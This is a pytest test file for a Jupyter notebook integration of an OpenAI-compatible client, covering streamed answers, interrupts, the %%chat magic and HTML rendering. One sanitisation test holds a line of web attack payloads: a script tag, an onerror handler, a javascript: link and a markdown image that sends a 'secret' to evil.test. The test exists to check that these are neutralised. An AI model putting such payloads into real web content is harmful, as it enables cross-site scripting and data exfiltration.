"""Jupyter: a real kernel, what it sends while a model answers, interrupts, and that no answer can run script."""

from __future__ import annotations

import json
import os
import queue
import re
import subprocess
import sys
import threading
import time
import types
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import pytest
from display.pages import check_harmless, shown
from IPython.core.displaypub import DisplayPublisher
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import CapturedIO, capture_output
from jupyter_client.manager import KernelManager
from jupyter_core.utils import ensure_event_loop
from nbclient import NotebookClient
from support.replay import EVENT_STREAM, JSON, ReplayServer, Reply, Request
from support.wire_bodies import chat_reply, chunk, error_reply, stream_pieces, stream_reply, tool_call
from traitlets.config import Config

from openai_compat import (
    ChatResponse,
    Client,
    ConfigurationError,
    Conversation,
    EmbeddingResponse,
    StreamEvent,
    server_options,
)
from openai_compat.display.sanitize import markdown_parser
from openai_compat.integrations.jupyter import NotebookSink
from openai_compat.integrations.jupyter.sink import REDRAW_BYTES_PER_SECOND, REDRAW_SECONDS
from openai_compat.providers import Provider
from openai_compat.wire.response import CallInfo, Choice, ParsedResponse

ROOT = Path(__file__).parent.parent
MIB = 1024 * 1024


@dataclass
class Cell:
    """What a cell sent: its outputs as a notebook holds them in the end, and the messages that made them."""

    outputs: list[dict[str, Any]] = field(default_factory=list)
    kinds: list[str] = field(default_factory=list)
    changes: list[dict[str, Any]] = field(default_factory=list)
    """Of outputs of other cells."""
    sent: int = 0
    error: dict[str, Any] | None = None
    seconds: float = 0.0

    @property
    def pages(self) -> list[str]:
        return [output["text/html"] for output in self.outputs]

    @property
    def updates(self) -> int:
        return self.kinds.count("update_display_data")


def close_event_loop() -> None:
    """Close this thread's loop, which Jupyter's blocking functions make and leave open."""
    ensure_event_loop().close()


class Kernel:
    """A real kernel in a process of its own."""

    def __init__(self, folder: Path) -> None:
        environment = {name: value for name, value in os.environ.items() if name != "PYTHONWARNINGS"}
        environment["IPYTHONDIR"] = str(folder)
        self.manager = KernelManager(kernel_name="python3")
        self.manager.start_kernel(env=environment)
        self.client = self.manager.blocking_client()
        self.client.start_channels()
        self.client.wait_for_ready(timeout=60)

    def run(self, code: str, *, on_output: Callable[[dict[str, Any]], object] = lambda data: None) -> Cell:
        """Run a cell; ``on_output`` hears of each output and each change of it."""
        cell = Cell()
        places: dict[str, int] = {}
        began = time.monotonic()
        asked = self.client.execute(code)
        while True:
            frames = self._next_message()
            message = self.client.session.deserialize(self.client.session.feed_identities(frames)[1])
            if message["parent_header"].get("msg_id") != asked:
                continue
            kind, content = message["msg_type"], message["content"]
            cell.kinds.append(kind)
            cell.sent += sum(map(len, frames))
            if kind == "status" and content["execution_state"] == "idle":
                cell.seconds = time.monotonic() - began
                return cell
            if kind == "error":
                cell.error = content
            elif kind == "stream":
                cell.outputs.append({"text/plain": content["text"]})
            elif kind in ("display_data", "execute_result"):
                places[content.get("transient", {}).get("display_id", "")] = len(cell.outputs)
                cell.outputs.append(content["data"])
                on_output(content["data"])
            elif kind == "update_display_data":
                place = places.get(content["transient"]["display_id"])
                if place is None:
                    cell.changes.append(content["data"])
                else:
                    cell.outputs[place] = content["data"]
                on_output(content["data"])

    def _next_message(self) -> list[bytes]:
        channel = self.client.iopub_channel.socket
        if not channel.poll(30_000):
            raise TimeoutError("the kernel says nothing")
        return channel.recv_multipart()

    def interrupt(self) -> None:
        """Press the interrupt button."""
        self.manager.interrupt_kernel()
        if threading.current_thread() is not threading.main_thread():
            close_event_loop()

    def close(self) -> None:
        self.client.stop_channels()
        self.manager.shutdown_kernel(now=True)
        self.manager.cleanup_resources()
        close_event_loop()


@pytest.fixture(scope="module")
def kernel(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
    started = Kernel(tmp_path_factory.mktemp("ipython"))
    started.run("from openai_compat import Client\nfrom openai_compat.integrations.jupyter import NotebookSink")
    started.run("%load_ext openai_compat.integrations.jupyter")
    yield started
    started.close()


def setup(kernel: Kernel, server: ReplayServer) -> None:
    assert kernel.run(f"client = Client({server.url!r}, model='m')").error is None


WITH_SINK = "answer = client.chat('hi', sink=NotebookSink())"
WITH_MAGIC = "%%chat\nhi"


def test_an_answer_is_one_output_and_rendered(kernel: Kernel) -> None:
    thinking = [chunk({"reasoning_content": "hm <b>"})]
    usage = chunk(finish_reason="stop", usage={"prompt_tokens": 3, "completion_tokens": 70, "total_tokens": 73})
    reply = Reply(
        headers=EVENT_STREAM, body=[*thinking, *stream_pieces("a **b", "** <i>c", finish_reason=None)[:-1], usage]
    )
    with ReplayServer([reply]) as server:
        setup(kernel, server)
        cell = kernel.run(WITH_SINK)
    [page] = cell.pages
    assert cell.outputs[0]["text/plain"] == "a **b** <i>c"
    assert "<details><summary>Reasoning</summary>" in page
    assert "hm &lt;b&gt;" in page
    assert '<p dir="auto" style="text-align:start">a <strong>b</strong> &lt;i&gt;c</p>' in page
    assert "m-served · 3 + 70 tokens · " in page
    assert page.endswith(" tokens/s · stop</small></p>")
    assert kernel.run("answer.text").outputs == [{"text/plain": "'a **b** <i>c'"}]


@pytest.mark.parametrize("tokens", [2000, 4000])
def test_a_long_answer_costs_little(kernel: Kernel, tokens: int) -> None:
    words = [f"word{number % 10}" + ("\n\n" if number % 50 == 0 else " ") for number in range(tokens)]
    body = b"".join(stream_pieces(*words))
    with ReplayServer([Reply(headers=EVENT_STREAM, body=body)]) as server:
        setup(kernel, server)
        cell = kernel.run(WITH_SINK)
    assert len(cell.outputs) == 1
    assert cell.outputs[0]["text/plain"] == "".join(words)
    assert cell.updates <= 2 + cell.seconds / REDRAW_SECONDS
    # On a machine that is busy with something else there is more time for redraws.
    assert cell.sent <= 0.1 * MIB + max(0.0, cell.seconds - 1) * REDRAW_BYTES_PER_SECOND


def test_each_word_of_a_slow_model_is_shown_before_the_next_comes(kernel: Kernel) -> None:
    shown = threading.Semaphore(0)
    words = [f"word{number}" for number in range(6)]

    def body(request: Request) -> Iterator[bytes]:
        for word in words:
            yield chunk({"content": word + " "})
            assert shown.acquire(timeout=10), f"{word} is not shown"
        yield from stream_pieces()

    def watch(data: dict[str, Any]) -> None:
        if waiting and waiting[0] in data["text/html"]:
            waiting.pop(0)
            shown.release()

    waiting = list(words)
    with ReplayServer(lambda request: Reply(headers=EVENT_STREAM, body=body(request))) as server:
        setup(kernel, server)
        cell = kernel.run(WITH_SINK, on_output=watch)
    assert not waiting
    assert len(cell.outputs) == 1


class Silent:
    """A server that sends some words, and then nothing; or, without words, nothing at all."""

    def __init__(self, *words: str) -> None:
        self.asked = threading.Event()
        self._words = words

    def __call__(self, request: Request) -> Reply:
        def body() -> Iterator[bytes]:
            yield from (chunk({"content": word}) for word in self._words)
            request.closed.wait(30)

        self.asked.set()
        if not self._words:
            request.closed.wait(30)
        return Reply(headers=EVENT_STREAM, body=body())


def interrupted(kernel: Kernel, code: str, *words: str) -> tuple[Cell, float]:
    """The cell, and the seconds from the interrupt, sent when all words are shown and none is to come, to idle."""
    silent = Silent(*words)
    seen = threading.Event()
    stopped: queue.SimpleQueue[float] = queue.SimpleQueue()

    def interrupt() -> None:
        silent.asked.wait(10)
        if words:
            seen.wait(10)
        stopped.put(time.monotonic())
        kernel.interrupt()

    def watch(data: dict[str, Any]) -> None:
        if words and words[-1] in data["text/html"]:
            seen.set()

    with ReplayServer(silent) as server:
        setup(kernel, server)
        helper = threading.Thread(target=interrupt)
        helper.start()
        cell = kernel.run(code, on_output=watch)
        took = time.monotonic() - stopped.get(timeout=10)
        helper.join()
        assert server.wait_closed(2)
    return cell, took


@pytest.mark.parametrize("code", [WITH_SINK, WITH_MAGIC], ids=["sink", "magic"])
@pytest.mark.parametrize("words", [("some ", "words"), ()], ids=["mid-stream", "silent"])
def test_the_interrupt_button_ends_the_call_and_keeps_what_came(
    kernel: Kernel, code: str, words: tuple[str, ...]
) -> None:
    cell, took = interrupted(kernel, code, *words)
    assert cell.error is not None
    assert cell.error["ename"] == "KeyboardInterrupt"
    assert cell.error["traceback"] == ["KeyboardInterrupt: the call was stopped"]
    assert took < 1.5
    if words:
        [output] = cell.outputs
        assert output["text/plain"] == "some words"
        assert '<p dir="auto" style="text-align:start">some words</p>' in output["text/html"]
        assert "stopped · about 2 tokens" in output["text/html"]
    else:
        assert cell.outputs == []
    assert kernel.run("1 + 1").outputs == [{"text/plain": "2"}]


def test_an_interrupt_of_other_code_is_shown_as_ever(kernel: Kernel) -> None:
    def interrupt(data: dict[str, Any]) -> None:
        kernel.interrupt()

    cell = kernel.run("import time\ndisplay('ready')\ntime.sleep(20)", on_output=interrupt)
    assert cell.error is not None
    assert any("time.sleep" in line for line in cell.error["traceback"])


LEFT_EARLY = """
sink = NotebookSink()
with client.stream('hi') as stream:
    for event in stream:
        sink.emit(event)
        break
"""


def test_a_stream_that_is_left_early_is_marked_at_the_end_of_the_cell(kernel: Kernel) -> None:
    with ReplayServer([stream_reply("one", "two")]) as server:
        setup(kernel, server)
        [page] = kernel.run(LEFT_EARLY).pages
    assert "one" in page
    assert "stopped" in page


def test_a_call_on_another_thread_goes_on_beyond_its_cell(kernel: Kernel) -> None:
    go = threading.Event()

    def body() -> Iterator[bytes]:
        yield chunk({"content": "one "})
        go.wait(10)
        yield from stream_pieces("two")

    with ReplayServer([Reply(headers=EVENT_STREAM, body=body())]) as server:
        setup(kernel, server)
        kernel.run("future = client.submit('hi', sink=NotebookSink())")
        go.set()
        # The update goes with whichever cell runs, to the output that the first one has.
        cell = kernel.run("future.result(10).text")
    assert cell.outputs[-1] == {"text/plain": "'one two'"}
    assert cell.changes[-1]["text/plain"] == "one two"
    assert not kernel.run("1").changes


def test_an_answer_to_come_has_its_output_at_once(kernel: Kernel) -> None:
    with ReplayServer(Silent()) as server:
        setup(kernel, server)
        [page] = kernel.run("sink = NotebookSink()\nfuture = client.submit('hi', sink=sink)").pages
        assert shown(page) == "…"
        cells = [kernel.run(code) for code in ("future.cancel()", "future._thread.join(10)", "1")]
        changes = [change for cell in cells for change in cell.changes]
    assert shown(changes[-1]["text/html"]).startswith("cancelled")


def test_programs_that_run_notebooks_get_the_answer(tmp_path: Path) -> None:
    go = threading.Event()

    def body() -> Iterator[bytes]:
        assert go.wait(30)
        yield from stream_pieces("one ", "two")

    def serve(request: Request) -> Reply:
        if request.method == "GET":
            go.set()
            return Reply()
        return Reply(headers=EVENT_STREAM, body=body())

    with ReplayServer(serve) as server:
        begin = (
            "from openai_compat import Client\nfrom openai_compat.integrations.jupyter import NotebookSink\n"
            f"client = Client({server.url!r}, model='m')\nfuture = client.submit('hi', sink=NotebookSink())"
        )
        finish = f"import urllib.request\nurllib.request.urlopen({server.url!r}).close()\nfuture.result(30).text"
        cells = [nbformat.v4.new_code_cell(code) for code in (begin, finish)]
        notebook = nbformat.v4.new_notebook(cells=cells)
        NotebookClient(notebook, timeout=60, kernel_name="python3").execute()
    [output] = notebook.cells[0].outputs
    assert output.data["text/plain"] == "one two"
    assert shown(output.data["text/html"]).startswith("one two m-served")


def test_inside_a_widget_it_prints(kernel: Kernel) -> None:
    with ReplayServer([stream_reply("one ", "two"), stream_reply("three")]) as server:
        setup(kernel, server)
        kernel.run("import ipywidgets\nout = ipywidgets.Output()")
        cell = kernel.run("with out:\n    answer = client.chat('hi', sink=NotebookSink())")
        assert "".join(output["text/plain"] for output in cell.outputs) == "one two\n"
        assert not {"display_data", "update_display_data"} & set(cell.kinds)
        [page] = kernel.run("answer = client.chat('hi', sink=NotebookSink())").pages
        assert shown(page).startswith("three")


def test_an_interrupt_of_a_wait_ends_the_call(kernel: Kernel) -> None:
    code = "future = client.submit('hi', sink=NotebookSink())\nfuture.result()"
    cell, _ = interrupted(kernel, code, "one")
    assert cell.error is not None
    assert cell.error["traceback"] == ["KeyboardInterrupt: the call was stopped"]


LEAVES = """
def read():
    stream = client.stream('hi')
    for event in stream:
        raise ValueError('left')

read()
"""


@pytest.mark.parametrize("code", [LEAVES, "opened = client.stream('hi')\nfor event in opened:\n    1 / 0"])
def test_the_streams_of_a_cell_that_fails_are_closed(kernel: Kernel, code: str) -> None:
    with ReplayServer(Silent("one")) as server:
        setup(kernel, server)
        assert kernel.run(code).error is not None
        assert server.wait_closed(5)


def test_a_stream_of_another_cell_stays_open_when_one_fails(kernel: Kernel) -> None:
    with ReplayServer([stream_reply("one ", "two")]) as server:
        setup(kernel, server)
        kernel.run("mine = client.stream('hi')")
        assert kernel.run("next(mine)\n1 / 0").error is not None
        assert kernel.run("''.join(mine.text_stream)").outputs[-1]["text/plain"].endswith("two'")


def test_a_sink_that_is_used_again_begins_a_new_output(kernel: Kernel) -> None:
    with ReplayServer([stream_reply("one", "two"), stream_reply("three", "four")]) as server:
        setup(kernel, server)
        first, second = kernel.run(LEFT_EARLY + "client.chat('hi', sink=sink)\n").pages
    assert shown(first).startswith("one stopped")
    assert shown(second).startswith("threefour m-served")


def test_calls_at_once_may_share_a_sink(kernel: Kernel) -> None:
    begun = threading.Barrier(2)

    def body(request: Request) -> Iterator[bytes]:
        name = request.json()["messages"][0]["content"]
        yield chunk({"content": f"{name}1 "})
        begun.wait(10)
        yield chunk({"content": f"{name}2 "})
        begun.wait(10)
        yield from stream_pieces(f"{name}3")

    with ReplayServer(lambda request: Reply(headers=EVENT_STREAM, body=body(request))) as server:
        setup(kernel, server)
        code = "sink = NotebookSink()\nfutures = [client.submit(name, sink=sink) for name in 'ab']\n"
        cell = kernel.run(code + "print(*(future.result(10).text for future in futures))")
    texts = [output["text/plain"] for output in cell.outputs]
    assert sorted(texts) == ["a1 a2 a3", "a1 a2 a3 b1 b2 b3\n", "b1 b2 b3"]


def test_an_answer_that_was_shown_is_no_result_of_its_cell_once_more(kernel: Kernel) -> None:
    replies = [stream_reply("one"), stream_reply("two"), stream_reply("3"), stream_reply("four")]
    with ReplayServer(replies) as server:
        setup(kernel, server)
        once = kernel.run("client.chat('hi', sink=NotebookSink())")
        later = kernel.run("display(_)\n_")
        loop = kernel.run("client.run_tools('hi', tools=[], sink=NotebookSink())")
        value = kernel.run("client.chat('hi', response_type=int, sink=NotebookSink())")
        asked_for = kernel.run("answer = client.chat('hi', sink=NotebookSink())\ndisplay(answer)")
    assert [shown(page)[:3] for page in once.pages + loop.pages] == ["one", "two"]
    assert [shown(page)[:3] for page in later.pages] == ["one", "one"]
    assert len(value.pages) == 2
    assert len(asked_for.pages) == 2


def test_a_plain_sink_prints_and_displays_nothing(kernel: Kernel) -> None:
    with ReplayServer([stream_reply("a **b", "**"), stream_reply("c")]) as server:
        setup(kernel, server)
        cell = kernel.run("client.chat('hi', sink=NotebookSink(plain=True))")
        magic = kernel.run("%%chat --plain\nhi")
    assert "".join(output["text/plain"] for output in cell.outputs + magic.outputs) == "a **b**\nc\n"
    assert not {"display_data", "execute_result"} & {*cell.kinds, *magic.kinds}


REFUSED = "def ask():\n    return Client('http://127.0.0.1:9', model='m', max_retries=0).chat('hi')\n"


def test_an_error_shows_the_frames_of_the_user_alone(kernel: Kernel) -> None:
    with ReplayServer([error_reply(401, "no key"), error_reply(401, "no key")]) as server:
        setup(kernel, server)
        cells = [
            kernel.run("client.chat('hi', sink=NotebookSink())"),
            kernel.run("client.submit('hi').result()"),
            kernel.run(REFUSED + "ask()"),
        ]
    for cell, name, frames in zip(cells, ["AuthenticationError"] * 2 + ["APIConnectionError"], [1, 1, 2], strict=True):
        assert cell.error is not None
        assert cell.error["ename"] == name
        lines = re.sub(r"\x1b\[[\d;]*m", "", "\n".join(cell.error["traceback"])).splitlines()
        assert sum(line.startswith("Cell In") for line in lines) == frames
        assert not any(".py" in line for line in lines)
    whole = kernel.run("%tb").error or kernel.run("%tb").outputs
    assert "client.py" in str(whole)


def test_what_is_sent_to_the_browser_is_all_text(kernel: Kernel) -> None:
    evil = "<script>alert(1)</script> <img src=x onerror=alert(2)> ![](http://evil.test/?q=secret) [x](javascript:1)"
    with ReplayServer([stream_reply(evil), chat_reply(evil)]) as server:
        setup(kernel, server)
        pages = kernel.run(WITH_SINK).pages + kernel.run("client.chat('hi')").pages
    assert len(pages) == 2
    for page in pages:
        check_harmless(page)


def test_importing_it_loads_neither_ipython_nor_markdown() -> None:
    code = (
        "import sys, openai_compat.integrations.jupyter as jupyter\n"
        "jupyter.NotebookSink()\n"
        "assert not {'IPython', 'markdown_it', 'requests'} & set(sys.modules)"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)


# The magic and the sink, in this process.


@pytest.fixture
def shell() -> Iterator[Any]:
    config = Config()
    config.HistoryManager.enabled = False
    made = InteractiveShell.instance(config=config, user_module=types.ModuleType("notebook"), user_ns={})
    made.run_line_magic("load_ext", "openai_compat.integrations.jupyter")
    yield made
    made.run_line_magic("unload_ext", "openai_compat.integrations.jupyter")
    InteractiveShell.clear_instance()


def run(shell: Any, code: str) -> CapturedIO:
    with capture_output() as captured:
        shell.run_cell(code)
    return captured


def asked(server: ReplayServer) -> dict[str, Any]:
    body: dict[str, Any] = server.requests[-1].json()
    return body


def last_page(captured: CapturedIO) -> str:
    return str(captured.outputs[-1].data["text/html"])


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ("", {"model": "m"}),
        ("--model other --max-tokens 5 -t 0.5", {"model": "other", "max_tokens": 5, "temperature": 0.5}),
        (
            "-s 'You are \"brief\"'",
            {"messages": [{"role": "system", "content": 'You are "brief"'}, {"role": "user", "content": "hi\nthere"}]},
        ),
        ("-m $name --max-tokens $limits.real", {"model": "mine", "max_tokens": 7}),
        (
            "-s 'As JSON: {x} {name}, for $name'",
            {
                "messages": [
                    {"role": "system", "content": "As JSON: {x} {name}, for mine"},
                    {"role": "user", "content": "hi\nthere"},
                ]
            },
        ),
    ],
)
def test_chat_takes_options(shell: Any, options: str, expected: dict[str, Any]) -> None:
    with ReplayServer([stream_reply("a **b**")]) as server, Client(server.url, model="m") as client:
        shell.user_ns.update(client=client, name="mine", limits=7)
        captured = run(shell, f"%%chat {options}\n\nhi\nthere\n")
        body = asked(server)
    assert {name: body[name] for name in expected} == expected
    assert body["messages"][-1] == {"role": "user", "content": "hi\nthere"}
    assert body["stream"] is True
    assert "<strong>b</strong>" in last_page(captured)


def test_chat_can_wait_for_the_whole_answer(shell: Any) -> None:
    with ReplayServer([chat_reply("a **b**")]) as server, Client(server.url, model="m") as client:
        shell.user_ns["client"] = client
        captured = run(shell, "%%chat --no-stream --to answer\nhi")
        assert not asked(server).get("stream")
    assert "<strong>b</strong>" in last_page(captured)
    assert shell.user_ns["answer"].text == "a **b**"


def test_chat_keeps_a_conversation(shell: Any) -> None:
    with ReplayServer([stream_reply("one"), stream_reply("two")]) as server, Client(server.url, model="m") as client:
        shell.user_ns["client"] = client
        run(shell, "%%chat -c talk -s brief --max-tokens 9\nfirst")
        run(shell, "%%chat -c talk\nsecond")
        bodies = [request.json() for request in server.requests]
    assert [[message["content"] for message in body["messages"]] for body in bodies] == [
        ["brief", "first"],
        ["brief", "first", "one", "second"],
    ]
    assert [body.get("max_tokens") for body in bodies] == [9, None]
    assert isinstance(shell.user_ns["talk"], Conversation)


@pytest.mark.parametrize("options", ["--base-url {url} -m m", "--base-url {url} --provider ollama -m m", "-m m"])
def test_chat_finds_its_server(shell: Any, options: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with ReplayServer([stream_reply("found")]) as server:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-env")
        if "base-url" not in options:
            monkeypatch.setenv("OPENAI_BASE_URL", server.url)
        captured = run(shell, f"%%chat {options.format(url=server.url)}\nhi")
        key = server.requests[0].headers.get("Authorization")
    assert "found" in last_page(captured)
    assert key == (None if "ollama" in options else "Bearer sk-env")


def test_chat_finds_a_server_on_this_machine_if_asked(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    listing = Reply(headers=JSON, body=b'{"data": [{"id": "llama"}]}')
    with ReplayServer([listing, stream_reply("found")]) as server:
        monkeypatch.setattr(server_options, "local_providers", lambda: [Provider("ours", f"{server.url}/v1")])
        assert "--local looks for one on this machine" in run(shell, "%%chat\nhi").stdout
        captured = run(shell, "%%chat --local\nhi")
    assert "found" in last_page(captured)
    assert [request.path for request in server.requests] == ["/v1/models", "/v1/chat/completions"]
    assert server.requests[1].json()["model"] == "llama"


def test_chat_says_how_a_key_is_given_to_it(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GROQ_API_KEY", raising=False)
    assert run(shell, "%%chat --provider groq\nhi").stdout.strip().endswith("groq needs a key: set GROQ_API_KEY")


@pytest.mark.parametrize(
    ("cell", "prompt"),
    [
        ("$name, ${1 + 1}, ${name[0]}", "Ada, 2, A"),
        ("What's $name's age? It isn't $number", "What's Ada's age? It isn't 3"),
        ('{"json": {name}} costs $5, $$name', '{"json": {name}} costs $5, $name'),
        ("go on: $earlier", "go on: said"),
        ("$number.real.imag, $number. $name...", "0, 3. Ada..."),
        ("${name}.txt", "Ada.txt"),
    ],
)
def test_chat_fills_in_variables(shell: Any, cell: str, prompt: str) -> None:
    with ReplayServer([stream_reply("ok")]) as server, Client(server.url, model="m") as client:
        earlier = ChatResponse(choices=(Choice(text="said"),))
        shell.user_ns.update(client=client, name="Ada", number=3, earlier=earlier)
        run(shell, f"%%chat\n{cell}")
        assert asked(server)["messages"][0]["content"] == prompt


@pytest.mark.parametrize(
    ("cell", "message"),
    [
        ("%%chat\nhi $nobody", "$nobody: name 'nobody' is not defined (write $$ for a dollar sign)"),
        ("%%chat\n$taken.it", "$taken.it: 'int' object has no attribute 'it'"),
        ("%%chat\n${1 / 0}", "${1 / 0}: division by zero"),
        ("%%chat --nonsense\nhi", "unrecognized arguments: --nonsense"),
        ("%%chat --max-tokens many\nhi", "invalid int value: 'many'"),
        ("%%chat -s 'open\nhi", "No closing quotation"),
        ("%%chat --to 1x\nhi", "'1x' is not a variable name"),
        ("%%chat -c taken\nhi", "taken is a int, not a Conversation"),
        ("%%chat -c talk --provider ollama\nhi", "talk continues with its own server"),
        ("%%chat\n ", "ConfigurationError: "),
        ("%%chat --provider nobody\nhi", "ConfigurationError: "),
        ("%%chat\nhi", "BadRequestError: "),
    ],
)
def test_chat_says_in_a_line_what_is_wrong(shell: Any, cell: str, message: str) -> None:
    with ReplayServer([error_reply(400, "too hot")]) as server, Client(server.url, model="m") as client:
        shell.user_ns.update(client=client, taken=1, talk=Conversation(client.chat))
        captured = run(shell, cell)
    told = captured.stdout + captured.stderr
    assert message in told
    assert len(told.strip().splitlines()) == 1
    assert not captured.outputs


def test_chat_has_help(shell: Any) -> None:
    text = shell.find_cell_magic("chat").__doc__
    assert "--conversation" in text
    assert "$name" in text
    assert run(shell, "%%chat --help\nhi").stdout == text


@pytest.mark.parametrize("cell", ["%%chat --help", "%%chat -h\n", "%%chat -m x --help", "%%chat --help\n\n"])
def test_the_help_needs_no_text_below(shell: Any, cell: str) -> None:
    assert run(shell, cell).stdout == shell.find_cell_magic("chat").__doc__


def test_without_a_text_nothing_is_asked(shell: Any) -> None:
    with ReplayServer([]) as server, Client(server.url, model="m") as client:
        shell.user_ns["client"] = client
        told = run(shell, "%%chat -t 0")
    assert "the cell body is empty" in told.stdout + told.stderr
    assert not server.requests


def test_the_extension_can_be_unloaded(shell: Any) -> None:
    shell.run_line_magic("unload_ext", "openai_compat.integrations.jupyter")
    assert shell.find_cell_magic("chat") is None
    assert shell.custom_exceptions == ()
    assert shell.transform_cell("%%chat --help") == "get_ipython().run_cell_magic('chat', '--help', '')\n"
    shell.run_line_magic("load_ext", "openai_compat.integrations.jupyter")


def test_values_are_shown_by_their_own_formatter(shell: Any) -> None:
    shell.user_ns.update(
        answer=ChatResponse(choices=(Choice(text="**a**"),)),
        parsed=ParsedResponse(choices=(Choice(text="1"),), parsed=7),
        vectors=EmbeddingResponse(vectors=[[1.0]]),
        talk=Conversation(lambda request, **options: ChatResponse()),
    )
    captured = run(shell, "display(answer, parsed, vectors, talk)")
    assert [shown(output.data["text/html"]) for output in captured.outputs] == [
        "a unknown",
        "7 unknown",
        "vector 0 1.0000 1 × 1 float32 · 0 tokens",
        "conversation nothing was said yet",
    ]


def test_each_round_of_a_tool_loop_is_an_output_of_its_own(shell: Any) -> None:
    def add(a: int, b: int) -> int:
        return a + b

    call = {"index": 0, **tool_call("add", '{"a": 1, "b": 2}')}
    first = Reply(
        headers=EVENT_STREAM, body=[chunk({"tool_calls": [call]}), *stream_pieces(finish_reason="tool_calls")]
    )
    with ReplayServer([first, stream_reply("it is ", "3")]) as server, Client(server.url, model="m") as client:
        with capture_output() as captured:
            answer = client.run_tools("1 + 2?", tools=[add], sink=NotebookSink())
    assert answer.text == "it is 3"
    ends = [output.data for output in captured.outputs if "text/plain" in output.data]
    assert [end["text/plain"] for end in ends] == ["", "it is 3"]
    assert '→ add({"a": 1, "b": 2})' in shown(ends[0]["text/html"])


def test_reasoning_is_open_until_the_answer_begins_and_not_sent_again_and_again(shell: Any) -> None:
    sink = NotebookSink()
    with capture_output() as captured:
        for event in (StreamEvent("reasoning", "hm " * 5000), StreamEvent("text", "so")):
            sink.emit(event)
            [draft] = sink._drafts.values()
            draft._timer and draft._timer.join()
        sink.emit(StreamEvent("done", ChatResponse(choices=(Choice(text="so", reasoning="hm " * 5000),))))
    first, second, last = (output.data["text/html"] for output in captured.outputs)
    assert first.startswith("<details open>")
    assert second.startswith("<details><summary>")
    assert len(first) < 3000 < 15000 < len(last)


def test_a_stream_that_fails_keeps_what_came_and_says_why(shell: Any) -> None:
    body = [*stream_pieces("one", finish_reason=None, done=False), b'data: {"error": {"message": "<b>"}}\n\n']
    with ReplayServer([Reply(headers=EVENT_STREAM, body=body)]) as server:
        with Client(server.url, model="m", max_retries=0) as client:
            shell.user_ns["client"] = client
            captured = run(shell, "%%chat\nhi")
    page = last_page(captured)
    assert shown(page).endswith("StreamServerError · about 1 token")


def test_the_sink_needs_the_extra_in_a_notebook(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "markdown_it", None)
    markdown_parser.cache_clear()
    with pytest.raises(ConfigurationError, match=re.escape("openai-compat[jupyter]")):
        NotebookSink()


def test_an_own_handler_of_interrupts_stays(shell: Any) -> None:
    shell.run_line_magic("unload_ext", "openai_compat.integrations.jupyter")
    shell.set_custom_exc((ZeroDivisionError,), lambda *args, **options: None)
    NotebookSink()
    shell.run_line_magic("load_ext", "openai_compat.integrations.jupyter")
    shell.run_line_magic("unload_ext", "openai_compat.integrations.jupyter")
    assert shell.custom_exceptions == (ZeroDivisionError,)
    shell.run_line_magic("load_ext", "openai_compat.integrations.jupyter")


def of_call(number: int, kind: Any, data: Any) -> StreamEvent:
    return StreamEvent(kind, data, 0, CallInfo(call_id=str(number)))


def test_streams_that_are_read_in_turn_keep_their_outputs(shell: Any) -> None:
    sink = NotebookSink()
    with capture_output() as captured:
        for piece in "abc":
            sink.emit(of_call(1, "text", piece))
            sink.emit(of_call(2, "text", piece * 2))
        sink.emit(of_call(1, "done", ChatResponse(choices=(Choice(text="abc"),))))
        sink._cell_ended()
    assert [output.data["text/plain"] for output in captured.outputs if "text/plain" in output.data][-2:] == [
        "abc",
        "aabbcc",
    ]
    assert not sink._drafts
    assert sink._cell_ended not in shell.events.callbacks["post_execute"]


def test_an_interrupt_of_the_first_drawing_leaves_one_output(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    sent = []

    def interrupted(**message: Any) -> None:
        sent.append(message)
        if len(sent) == 1:
            raise KeyboardInterrupt

    monkeypatch.setattr(shell.display_pub, "publish", interrupted)
    sink = NotebookSink()
    with pytest.raises(KeyboardInterrupt):
        sink.emit(StreamEvent("text", "one"))
    sink._cell_ended()
    first, second = sent
    assert second["update"]
    assert second["transient"] == first["transient"]


def test_the_stream_does_not_wait_for_a_drawing(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    sink, drawing, go = NotebookSink(), threading.Event(), threading.Event()

    def slow(*args: Any, **options: Any) -> str:
        drawing.set()
        assert go.wait(10)
        return ""

    with capture_output():
        sink.emit(StreamEvent("text", "one"))
        monkeypatch.setattr("openai_compat.integrations.jupyter.sink.answer_html", slow)
        sink.emit(StreamEvent("text", "two"))
        assert drawing.wait(10)
        reader = threading.Thread(target=sink.emit, args=(StreamEvent("text", "three"),))
        reader.start()
        reader.join(5)
        waits = reader.is_alive()
        go.set()
        reader.join()
        sink._cell_ended()
    assert not waits


def test_a_long_answer_is_redrawn_every_second(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("openai_compat.integrations.jupyter.sink.answer_html", lambda *args, **options: "x" * 80_000)
    sink = NotebookSink()
    with capture_output():
        sink.emit(StreamEvent("text", "one"))
        [draft] = sink._drafts.values()
        assert draft._due - time.monotonic() <= 1
        sink._cell_ended()


def test_spyder_gets_plain_text(shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell, "__class__", type("SpyderShell", (InteractiveShell,), {}))
    with capture_output() as captured:
        NotebookSink().emit(StreamEvent("text", "one"))
    assert captured.stdout == "one"


class OldPublisher(DisplayPublisher):
    """As in ipykernel 6: one header for all threads, that of the cell which runs now."""

    def __init__(self, shell: Any) -> None:
        super().__init__(shell=shell)
        self.parent_header = {"msg_id": "first"}
        self.sent: list[dict[str, Any]] = []
        self._hooks: list[Any] = []

    def register_hook(self, hook: Any) -> None:
        self._hooks.append(hook)

    def unregister_hook(self, hook: Any) -> None:
        self._hooks.remove(hook)

    def publish(self, data: Any, *args: Any, **options: Any) -> None:
        message = {"parent_header": self.parent_header}
        for hook in self._hooks:
            message = hook(message)
        self.sent.append(message)


def test_a_call_on_another_thread_is_shown_where_its_sink_was_made(shell: Any) -> None:
    shell.display_pub = publisher = OldPublisher(shell)
    sink = NotebookSink()
